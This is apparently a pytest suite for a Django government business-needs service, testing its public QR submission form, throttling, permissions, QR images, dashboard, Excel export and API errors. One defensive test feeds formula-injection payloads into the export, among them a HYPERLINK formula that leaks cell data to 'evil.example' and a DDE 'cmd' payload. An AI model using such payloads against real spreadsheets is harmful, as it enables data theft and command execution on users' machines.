"""Pages and API of needs: the public QR form and progress page, the permission matrix, QR
images, dashboard and export, and 4xx JSON for bad API input."""

import re
from io import BytesIO

import pytest
from django.conf import settings
from django.utils import timezone
from openpyxl import load_workbook

from qinqing.core.testing import ANONYMOUS, check_matrix
from qinqing.needs import services
from qinqing.needs.models import Category, Need
from qinqing.needs.tests.conftest import FIRM_USCC, OTHER_USCC

pytestmark = pytest.mark.django_db


def test_public_form_submit_then_progress_page(client, qr):
    url = f"/needs/q/{qr.key}/"
    page = client.get(url).content.decode()
    assert "企业问需" in page and "统一社会信用代码" in page
    response = client.post(
        url,
        {
            "uscc": FIRM_USCC.lower(),
            "phone": "139-0000-1234",
            "text": "数电票开票额度不够用，怎么申请提额？",
        },
    )
    assert response.status_code == 302
    need = Need.objects.get()
    assert response["Location"] == f"/needs/t/{need.token}/"
    html = client.get(response["Location"]).content.decode()
    assert need.number in html and "待签收" in html and "区税务局" in html
    assert "139****1234" in html and "13900001234" not in html


def test_public_form_shows_errors_in_chinese(client, qr):
    response = client.post(
        f"/needs/q/{qr.key}/", {"uscc": "123", "phone": "13900000000", "text": "数电票额度不够"}
    )
    assert response.status_code == 400
    assert "统一社会信用代码格式或校验位不正确" in response.content.decode()
    assert not Need.objects.exists()


def test_public_form_answers_429_when_throttled(client, qr):
    data = {"uscc": FIRM_USCC, "phone": "13900000000", "text": "数电票开票额度不够用"}
    for _ in range(settings.QINQING_NEEDS_RATE_PER_PHONE):
        assert client.post(f"/needs/q/{qr.key}/", data).status_code == 302
    response = client.post(f"/needs/q/{qr.key}/", data)
    assert response.status_code == 429
    assert "过于频繁" in response.content.decode()


def test_the_needs_intake_records_and_throttles_the_forwarded_address(client, settings, qr):
    settings.TRUSTED_PROXIES = ["127.0.0.1"]
    settings.QINQING_NEEDS_RATE_PER_IP = 2
    data = {"uscc": FIRM_USCC, "text": "数电票开票额度不够用"}
    url = f"/needs/q/{qr.key}/"
    behind = {"REMOTE_ADDR": "127.0.0.1", "HTTP_X_FORWARDED_FOR": "6.6.6.6, 203.0.113.9"}
    for phone in ("13900000001", "13900000002"):
        assert client.post(url, {**data, "phone": phone}, **behind).status_code == 302
    assert set(Need.objects.values_list("submitted_ip", flat=True)) == {"203.0.113.9"}
    assert client.post(url, {**data, "phone": "13900000003"}, **behind).status_code == 429
    # Another client behind the same proxy is not throttled with it.
    other = {"REMOTE_ADDR": "127.0.0.1", "HTTP_X_FORWARDED_FOR": "203.0.113.10"}
    assert client.post(url, {**data, "phone": "13900000004"}, **other).status_code == 302


def test_inactive_or_unknown_qr_is_404(client, qr):
    assert client.get("/needs/q/nope/").status_code == 404
    qr.is_active = False
    qr.save(update_fields=["is_active"])
    assert client.get(f"/needs/q/{qr.key}/").status_code == 404


def test_firm_rates_on_the_progress_page(client, world, submit):
    need = submit()
    services.need_sign(actor=world["liaison"], need=need)
    services.need_reply(actor=world["liaison"], need=need, reply="已说明提额办法")
    services.need_callback(actor=world["dispatcher"], need=need, note="已回访")
    services.need_close(actor=world["dispatcher"], need=need)
    assert "请对本次服务评价" in client.get(f"/needs/t/{need.token}/").content.decode()
    client.post(f"/needs/t/{need.token}/rate/", {"level": "2", "comment": "不满意"})
    need.refresh_from_db()
    assert need.rating.level == 2 and need.rating.rectification.due_date


def test_qr_images_and_poster(client, world, qr):
    client.force_login(world["liaison"])
    png = client.get(f"/needs/qr/{qr.pk}.png")
    assert png["Content-Type"] == "image/png" and png.content.startswith(b"\x89PNG")
    svg = client.get(f"/needs/qr/{qr.pk}.svg")
    assert svg["Content-Type"] == "image/svg+xml" and b"<svg" in svg.content
    assert client.get(f"/needs/qr/{qr.pk}.gif").status_code == 404
    poster = client.get(f"/needs/qr/{qr.pk}/poster/").content.decode()
    assert "<svg" in poster and qr.label in poster and f"/needs/q/{qr.key}/" in poster


def test_staff_walk_through_the_pages(client, world, submit):
    need = submit("园区门口的路灯坏了很久了")
    client.force_login(world["dispatcher"])
    client.post(f"/needs/{need.pk}/act/dispatch/", {"category": "tax", "kind": "consultation"})
    need.refresh_from_db()
    assert need.state == "pending_sign" and need.kind == "consultation"
    client.force_login(world["liaison"])
    client.post(f"/needs/{need.pk}/act/sign/")
    client.post(f"/needs/{need.pk}/act/reply/", {"reply": "已转交物业处理"})
    need.refresh_from_db()
    assert need.state == "replied"
    response = client.post(f"/needs/{need.pk}/act/close/")
    assert response.status_code == 403  # the department does not close
    client.force_login(world["dispatcher"])
    client.post(f"/needs/{need.pk}/act/callback/", {"note": "企业认可"})
    client.post(f"/needs/{need.pk}/act/close/")
    need.refresh_from_db()
    assert need.state == "closed"
    assert client.post(f"/needs/{need.pk}/act/fly/").status_code == 404


def test_permission_matrix(client, world, submit):
    own = submit()  # demo-firm's need, routed to 区税务局
    other_firm = submit(uscc=OTHER_USCC)
    hr = submit("员工工伤认定需要多长时间？", uscc=OTHER_USCC)  # routed to 区人社局
    assert hr.department.code == "hs-rsj"
    gov_ok = {"admin": 200, "dispatcher": 200, "editor": 200}
    check_matrix(
        client,
        {
            "/needs/": {
                **gov_ok,
                "liaison": 200,
                "enterprise": 200,
                "judge": 403,
                "creditor": 403,
                ANONYMOUS: 302,
            },
            f"/needs/{own.pk}/": {**gov_ok, "liaison": 200, "enterprise": 200, "judge": 403},
            f"/needs/{other_firm.pk}/": {"liaison": 200, "enterprise": 404, "volunteer": 404},
            f"/needs/{hr.pk}/": {"dispatcher": 200, "liaison": 404, "enterprise": 404},
            "/needs/new/": {"liaison": 200, "instructor": 200, "enterprise": 403, "editor": 403},
            "/needs/qr/": {"liaison": 200, "dispatcher": 200, "enterprise": 403, ANONYMOUS: 302},
            "/needs/rectifications/": {"liaison": 200, "editor": 200, "enterprise": 403},
            "/needs/dashboard/": {"editor": 200, "liaison": 200, "enterprise": 403, "judge": 403},
            "/needs/common/": {"editor": 200, "enterprise": 403},
            "/needs/export.xlsx": {"editor": 200, "enterprise": 403, ANONYMOUS: 302},
            "/needs/export/": {"editor": 200, "liaison": 200, "enterprise": 403, ANONYMOUS: 302},
            f"/needs/t/{own.token}/": {ANONYMOUS: 200},
            "/needs/t/not-a-token/": {ANONYMOUS: 404},
        },
        world,
    )


def test_department_list_shows_only_its_orders(client, world, submit):
    submit()
    hr = submit("员工工伤认定需要多长时间？", uscc=OTHER_USCC)
    client.force_login(world["liaison"])
    html = client.get("/needs/").content.decode()
    assert hr.number not in html
    client.force_login(world["enterprise"])
    html = client.get("/needs/").content.decode()
    assert hr.number not in html


def test_dashboard_charts_and_export(client, world, submit):
    need = submit()
    client.force_login(world["editor"])
    html = client.get("/needs/dashboard/").content.decode()
    assert html.count("data-chart=") == 4 and "诉求按承办部门" in html and "按时办结率" in html
    assert '<script id="chart-needs-channel" type="application/json">' in html
    assert '<th scope="row">问需二维码</th><td class="num">1</td>' in html  # its table
    response = client.get("/needs/export.xlsx")
    wb = load_workbook(BytesIO(b"".join(response.streaming_content)))
    assert wb.sheetnames == ["诉求工单", "活动"]
    assert wb["诉求工单"]["A2"].value == need.number


def test_a_period_beyond_the_calendar_is_a_field_error_not_a_500(client, world, submit):
    """end=9999-12-31 overflowed `end + 1 day` on the dashboard and the export (500)."""
    submit()
    client.force_login(world["editor"])
    page = client.get("/needs/dashboard/?start=2024-01-01&end=9999-12-31")
    assert page.status_code == 200 and "结束日期不能晚于" in page.content.decode()
    export = client.get("/needs/export.xlsx?start=2024-01-01&end=9999-12-31")
    assert export.status_code == 400 and "结束日期不能晚于" in export.content.decode()


# --- API ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "category", "department"),
    [
        ("数电票开票额度不够用，怎么申请提额？", "tax", "区税务局"),
        ("想变更营业执照上的经营范围", "approval", "区行政审批局"),
        ("园区门口的路灯坏了", "other", "区营商办"),
    ],
)
def test_classify_api(client, world, text, category, department):
    response = client.post(
        "/api/v1/needs/classify", {"text": text}, content_type="application/json"
    )
    assert response.status_code == 200
    body = response.json()
    assert body["category"] == category and body["department"] == department
    assert 0 <= body["confidence"] <= 1


def test_classify_api_without_catalogue_still_names_the_department(client, db):
    response = client.post(
        "/api/v1/needs/classify", {"text": "客户拖欠货款想起诉"}, content_type="application/json"
    )
    assert response.json()["department"] == "区法院"


@pytest.mark.parametrize(
    ("payload", "status"),
    [("{}", 422), ('{"text": ""}', 400), ('{"text": 5}', 422), ("not json", 400)],
)
def test_classify_api_bad_input_is_4xx_json(client, db, payload, status):
    response = client.post("/api/v1/needs/classify", payload, content_type="application/json")
    assert response.status_code == status
    assert "detail" in response.json()


def test_needs_api_scoping_and_transition_errors(client, world, submit):
    need = submit()
    client.force_login(world["enterprise"])
    assert [n["number"] for n in client.get("/api/v1/needs/").json()] == [need.number]
    other = submit(uscc=OTHER_USCC)
    assert client.get(f"/api/v1/needs/{other.pk}").status_code == 404
    client.force_login(world["liaison"])
    response = client.post(
        f"/api/v1/needs/{need.pk}/transition",
        {"action": "reply", "reply": "先行答复企业"},
        content_type="application/json",
    )
    assert response.status_code == 409 and response.json()["code"] == "state"
    response = client.post(
        f"/api/v1/needs/{need.pk}/transition", {"action": "fly"}, content_type="application/json"
    )
    assert response.status_code == 400 and response.json()["field"] == "action"
    response = client.post(
        f"/api/v1/needs/{need.pk}/transition", {"action": "sign"}, content_type="application/json"
    )
    assert response.status_code == 200 and response.json()["state"] == "in_progress"
    client.force_login(world["enterprise"])
    response = client.post(
        f"/api/v1/needs/{need.pk}/transition",
        {"action": "dispatch", "category": "tax"},
        content_type="application/json",
    )
    assert response.status_code == 403
    assert client.get("/api/v1/needs/?state=bogus").status_code == 400
    assert Category.objects.count() == 11


def test_attachments_are_served_only_to_those_who_see_the_order(
    client, world, submit, settings, tmp_path
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.MEDIA_ROOT = tmp_path
    pdf = SimpleUploadedFile("证明.pdf", b"%PDF-1.4 demo", "application/pdf")
    need = submit(attachments=[pdf])
    item = need.attachments.get()
    url = f"/needs/{need.pk}/attachments/{item.pk}/"
    check_matrix(
        client,
        {url: {"enterprise": 200, "liaison": 200, "volunteer": 404, "judge": 403, ANONYMOUS: 302}},
        world,
    )
    client.force_login(world["enterprise"])
    assert b"".join(client.get(url).streaming_content).startswith(b"%PDF")


def test_public_form_takes_attachments(client, qr, settings, tmp_path):
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.MEDIA_ROOT = tmp_path
    files = [
        SimpleUploadedFile("a.png", b"\x89PNG\r\n\x1a\n0000", "image/png"),
        SimpleUploadedFile("b.pdf", b"%PDF-1.7 x", "application/pdf"),
    ]
    data = {
        "uscc": FIRM_USCC,
        "phone": "13900000000",
        "text": "数电票开票额度不够用",
        "attachments": files,
    }
    assert client.post(f"/needs/q/{qr.key}/", data).status_code == 302
    assert sorted(Need.objects.get().attachments.values_list("content_type", flat=True)) == [
        "application/pdf",
        "image/png",
    ]
    bad = {
        **data,
        "phone": "13900000001",
        "attachments": [SimpleUploadedFile("x.png", b"GIF89a", "image/png")],
    }
    response = client.post(f"/needs/q/{qr.key}/", bad)
    assert response.status_code == 400 and "附件只能是" in response.content.decode()


def test_appeal_through_the_rectification_page(client, world, submit):
    from qinqing.needs.models import Rectification

    need = submit()
    services.need_sign(actor=world["liaison"], need=need)
    services.need_reply(actor=world["liaison"], need=need, reply="已说明提额办法")
    services.need_callback(actor=world["dispatcher"], need=need, note="已回访")
    services.need_close(actor=world["dispatcher"], need=need)
    rating = services.need_rate(actor=None, need=need, level=1)
    rect = Rectification.objects.get(rating=rating)
    client.force_login(world["liaison"])
    assert "申诉差评" in client.get("/needs/rectifications/").content.decode()
    client.post(f"/needs/rectifications/{rect.pk}/appeal/", {"reason": "企业误操作导致报错"})
    client.post(f"/needs/rectifications/{rect.pk}/appeal/", {"decision": "uphold"})
    rating.refresh_from_db()
    assert rating.appeal_state == "pending"  # the department cannot decide its own appeal
    client.force_login(world["dispatcher"])
    client.post(f"/needs/rectifications/{rect.pk}/appeal/", {"decision": "uphold"})
    rating.refresh_from_db()
    rect.refresh_from_db()
    assert rating.appeal_state == "upheld" and rect.state == "cancelled"


def test_a_signed_in_firm_submits_in_its_own_name(client, world):
    client.force_login(world["enterprise"])
    assert "提交诉求" in client.get("/needs/").content.decode()
    response = client.post(
        "/needs/submit/",
        {"uscc": OTHER_USCC, "phone": "13900000000", "text": "想变更营业执照上的经营范围"},
    )
    need = Need.objects.get()
    assert response["Location"] == f"/needs/{need.pk}/"
    assert need.uscc == FIRM_USCC and need.channel == "portal"  # the posted USCC is ignored
    assert f"/needs/t/{need.token}/" in client.get(f"/needs/{need.pk}/").content.decode()
    client.force_login(world["dispatcher"])
    assert f"/needs/t/{need.token}/" not in client.get(f"/needs/{need.pk}/").content.decode()
    check_matrix(
        client,
        {"/needs/submit/": {"enterprise": 200, "volunteer": 200, "liaison": 403, ANONYMOUS: 302}},
        world,
    )


def test_a_signed_in_firm_submits_as_a_browser_does_without_its_disabled_fields(client, world):
    """The credit code and name are shown disabled, so a browser does not send them: the form
    answered 400 "这个字段是必填项" under the disabled field."""
    client.force_login(world["enterprise"])
    page = client.get("/needs/submit/").content.decode()
    assert 'name="uscc"' in page and "disabled" in page
    response = client.post(
        "/needs/submit/", {"phone": "13900000000", "text": "想变更营业执照上的经营范围"}
    )
    assert response.status_code == 302
    assert Need.objects.get().uscc == FIRM_USCC


def test_a_firm_outside_the_register_finds_its_own_need_in_its_list(client, world):
    """The firm's users belong to its organisation; the need is its own whether or not the firm
    is in the enterprise register (it was linked only through the register, so a firm outside
    it submitted a need it could not find again)."""
    from qinqing.enterprises.models import Firm

    Firm.objects.filter(organisation__uscc=FIRM_USCC).delete()
    client.force_login(world["enterprise"])
    client.post("/needs/submit/", {"phone": "13900000000", "text": "想变更营业执照上的经营范围"})
    need = Need.objects.get()
    assert need.firm_id is None and need.firm_org.uscc == FIRM_USCC
    assert f'href="/needs/{need.pk}/"' in client.get("/needs/").content.decode()


@pytest.mark.parametrize("who", ["enterprise", "volunteer", "dispatcher", "liaison"])
def test_the_needs_list_offers_only_pages_its_user_may_open(client, world, who):
    """Firms and volunteers were offered 共性需求 and 问答知识库, which answered 403."""
    client.force_login(world[who])
    page = client.get("/needs/").content.decode()
    for url in re.findall(r'href="(/needs/[^"?#]*)"', page):
        assert client.get(url).status_code == 200, url


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("https://evil.example/?leak="&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "@SUM(A1)"],
)
def test_a_formula_typed_into_the_public_form_is_text_in_the_export(client, world, qr, name):
    """A firm name from the anonymous QR form reaches the dispatcher's spreadsheet as the text
    typed, never as a formula Excel would evaluate (OWASP CSV injection); counts stay numbers."""
    from qinqing.activities import services as activities

    response = client.post(
        f"/needs/q/{qr.key}/",
        {"uscc": FIRM_USCC, "company_name": name, "phone": "13900001234", "text": "开票额度不够"},
    )
    assert response.status_code == 302
    lead = world["editor"].role_grants.first().organisation
    now = timezone.now()
    activities.event_create(
        actor=None,
        kind="training",
        title="=1+1",
        lead_department=lead,
        starts_at=now,
        ends_at=now,
        place="区政务中心",
        capacity=30,
    )
    client.force_login(world["dispatcher"])
    export = client.get("/needs/export.xlsx")
    assert export.status_code == 200
    book = load_workbook(BytesIO(b"".join(export.streaming_content)))
    firm = book["诉求工单"]["D2"]
    assert (firm.value, firm.data_type, firm.quotePrefix) == (name, "s", True)
    events = book["活动"]
    assert (events["C2"].value, events["C2"].data_type) == ("=1+1", "s")
    assert (events["G2"].value, events["G2"].data_type) == (0, "n")


def test_permission_matrix_of_the_other_routes(client, world, submit, qr):
    """The public pages answer everyone; the staff pages their departments; the firm its own
    orders through the API; another department's or firm's order is a 404."""
    from qinqing.needs.models import Rectification

    own = submit()  # demo-firm's need, routed to 区税务局
    hr = submit("员工工伤认定需要多长时间？", uscc=OTHER_USCC)  # routed to 区人社局
    services.need_sign(actor=world["liaison"], need=own)
    services.need_reply(actor=world["liaison"], need=own, reply="已说明提额办法")
    services.need_callback(actor=world["dispatcher"], need=own, note="已回访")
    services.need_close(actor=world["dispatcher"], need=own)
    rating = services.need_rate(actor=None, need=own, level=1)
    rect = Rectification.objects.get(rating=rating)
    check_matrix(
        client,
        {
            f"/needs/q/{qr.key}/": {ANONYMOUS: 200, "enterprise": 200},
            "/needs/web/": {ANONYMOUS: 200, "enterprise": 200},
            "/needs/track/": {ANONYMOUS: 200},
            f"/needs/qr/{qr.pk}.png": {
                "liaison": 200,
                "dispatcher": 200,
                "enterprise": 403,
                ANONYMOUS: 302,
            },
            f"/needs/qr/{qr.pk}/poster/": {"liaison": 200, "enterprise": 403, ANONYMOUS: 302},
            "/needs/answers/": {"editor": 200, "liaison": 200, "enterprise": 403, ANONYMOUS: 302},
            "/api/v1/needs/": {ANONYMOUS: 401, "enterprise": 200, "liaison": 200, "judge": 403},
            f"/api/v1/needs/{own.pk}": {ANONYMOUS: 401, "enterprise": 200, "liaison": 200},
            f"/api/v1/needs/{hr.pk}": {"enterprise": 404, "liaison": 404, "dispatcher": 200},
        },
        world,
    )
    # Writes with no form: refused to whoever may not act, a form error (never a 500) otherwise.
    check_matrix(
        client,
        {
            f"/needs/{hr.pk}/act/sign/": {
                ANONYMOUS: 302,
                "enterprise": 404,
                "liaison": 404,  # another department's order
                "judge": 403,
            },
            f"/needs/rectifications/{rect.pk}/appeal/": {
                ANONYMOUS: 302,
                "enterprise": 403,
                "judge": 403,
            },
            f"/needs/rectifications/{rect.pk}/complete/": {
                ANONYMOUS: 302,
                "enterprise": 403,
                "judge": 403,
            },
            "/needs/common/refresh/": {ANONYMOUS: 302, "enterprise": 403, "liaison": 302},
            f"/needs/t/{own.token}/rate/": {ANONYMOUS: 302},
            "/needs/t/not-a-token/rate/": {ANONYMOUS: 404},
        },
        world,
        method="post",
    )
    check_matrix(
        client,
        {
            f"/api/v1/needs/{hr.pk}/transition": {
                ANONYMOUS: 401,
                "enterprise": 404,
                "liaison": 404,
                "dispatcher": 403,  # signing is the department's
            },
        },
        world,
        method="post",
        data={"action": "sign"},
        content_type="application/json",
    )
    check_matrix(
        client,
        {"/api/v1/needs/classify": {ANONYMOUS: 422, "enterprise": 422}},
        world,
        method="post",
        data={},
        content_type="application/json",
    )
